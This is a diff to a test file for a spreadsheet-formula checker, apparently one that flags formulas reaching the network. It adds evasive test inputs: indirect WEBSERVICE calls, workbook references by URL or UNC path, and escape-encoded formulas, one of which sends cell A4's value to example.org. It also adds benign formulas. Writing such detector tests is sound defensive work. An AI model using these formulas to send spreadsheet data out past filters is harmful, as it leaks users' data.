@@ -26,6 +26,18 @@ test.each([
   'COPILOT("Summarize",A1:A9)',
   'SomeFunctionOfTomorrow(A1)',
   'add\\in(A1)',
+  // Functions passed to or called by others, without a name before the parenthesis.
+  '_xlfn.MAP(A4:A9,_xleta.WEBSERVICE)',
+  'MAP(A4:A9,WEBSERVICE)',
+  '_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f(A4))',
+  '(WEBSERVICE)(A4)',
+  'IF(TRUE,_xleta.WEBSERVICE) (A4)',
+  // Names that no sheet can have.
+  "'https://example.org/book.xlsx'!Total",
+  String.raw`'\\example.org\share\book.xlsx'!Total`,
+  // Characters written as escapes.
+  'WEBSERVICE_x0028_"https://example.org/?"&A4)',
+  '"a_x0022_&WEBSERVICE(A4)&_x0022_"',
   // What cannot be read with certainty.
   `T[a'[b]]+WEBSERVICE("x")+'S'!A1`,
   '"open',
@@ -50,6 +62,9 @@ test.each([
   '_xlfn.ANCHORARRAY(A1)*2',
   'NETWORKDAYS.INTL(A1,TODAY())+{1,2;3,4}+#REF!',
   'WebserviceTotal+1',
+  '"line_x000D_break"&A1',
+  '_xlfn.LET(_xlpm.x,SUM(A1:A9),_xlpm.x*2)',
+  '(A1+B1)*(C1)',
 ])('%s stays inside', (formula) => {
   expect(reachesOutside(formula)).toBe(false)
 })
